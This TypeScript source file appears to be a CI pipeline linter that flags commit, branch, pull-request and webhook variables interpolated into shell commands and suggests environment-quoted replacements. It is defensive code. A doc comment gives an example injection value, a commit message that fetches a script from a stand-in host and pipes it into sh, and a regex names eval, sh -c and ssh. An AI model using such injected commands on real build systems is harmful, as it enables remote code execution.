import type { Checking } from './checking.ts';
import type { Path } from './path.ts';
import { quote } from './report.ts';
import type { TreeNode } from './tree.ts';
import { mapVariables, variablesIn } from './variable.ts';

/**
 * Variables whose text is chosen by the person behind an event: the author of a commit, of a pull request, of a comment,
 * or the sender of a webhook. Git allows `$(...)`, quotes and semicolons in branch names, so branches are among them;
 * the escaped forms are escaped for JSON and not for a shell.
 */
const EVENT_VARIABLES: ReadonlySet<string> = new Set([
  'CF_BRANCH',
  'CF_BUILD_INITIATOR',
  'CF_COMMIT_AUTHOR',
  'CF_COMMIT_MESSAGE',
  'CF_COMMIT_MESSAGE_ESCAPED',
  'CF_GERRIT_CHANGE_TOPIC',
  'CF_PULL_REQUEST_COMMENT',
  'CF_PULL_REQUEST_COMMENT_AUTHOR',
  'CF_PULL_REQUEST_HEAD_BRANCH',
  'CF_PULL_REQUEST_LABELS',
  'CF_PULL_REQUEST_TITLE',
  'CF_PULL_REQUEST_TITLE_ESCAPED',
  'CF_RELEASE_NAME',
  'CF_RELEASE_TAG',
  'EVENT_MESSAGE',
  'EVENT_NAME',
  'EVENT_NAMESPACE',
  'EVENT_PAYLOAD',
  'EVENT_PUSHER',
  'EVENT_TAG',
]);

/** A second shell or a here-document reads the text again, so quotes around the variable would not help there. */
const READS_AGAIN = /<<|\beval\b|\b(?:ba|da|k|z)?sh\s+(?:-\w+\s+)*-\w*c\b|\bssh\b|\n/;

type Quoting = 'none' | 'single' | 'double';

const opens = (character: string | undefined): Quoting =>
  character === '"' ? 'double' : character === "'" ? 'single' : 'none';

/** The state of a POSIX shell's quoting after `text`. */
const quotingAfter = (text: string, before: Quoting): Quoting => {
  let quoting = before;
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at];
    if (character === '\\' && quoting !== 'single') at += 1;
    else if (quoting === 'none') quoting = opens(character);
    else if (opens(character) === quoting) quoting = 'none';
  }
  return quoting;
};

const READ_BY_SHELL: Readonly<Record<Quoting, (name: string) => string>> = {
  none: name => `"$${name}"`,
  double: name => `$\{${name}}`,
  single: name => `'"$${name}"'`,
};

/** The command with event variables read from the environment by the shell; undefined where that would not help. */
const readFromEnvironment = (command: string): string | undefined => {
  if (READS_AGAIN.test(command)) return undefined;
  let quoting: Quoting = 'none';
  return mapVariables(
    command,
    outside => {
      quoting = quotingAfter(outside, quoting);
      return outside;
    },
    (name, written) => (EVENT_VARIABLES.has(name) ? READ_BY_SHELL[quoting](name) : written),
  );
};

/**
 * Finds event variables that are written into shell commands. `${{NAME}}` is replaced before the shell reads the
 * command, so a commit message such as `"; curl evil | sh #` would run as a part of it.
 */
export const checkCommands = (checking: Checking, commands: TreeNode | undefined, path: Path): void => {
  if (commands?.kind !== 'list') return;
  for (const [index, item] of commands.items.entries()) {
    if (item.kind !== 'scalar' || typeof item.value !== 'string') continue;
    const names = new Set(variablesIn(item.value).filter(name => EVENT_VARIABLES.has(name)));
    if (names.size === 0) continue;
    const [first = ''] = names;
    const suggestion = readFromEnvironment(item.value);
    const more = names.size > 1 ? ` and ${names.size - 1} more` : '';
    const message = `${quote(`\${{${first}}}`)}${more} puts text of an event into a shell command, where it can run as code; read it from the environment: "$${first}"`;
    const finding = {
      code: 'event-in-command',
      at: item.at,
      path: [...path, index],
      message,
      suggestion,
    } as const;
    if (checking.refusesEventsInCommands) checking.report.error(finding);
    else checking.report.warn(finding);
  }
};
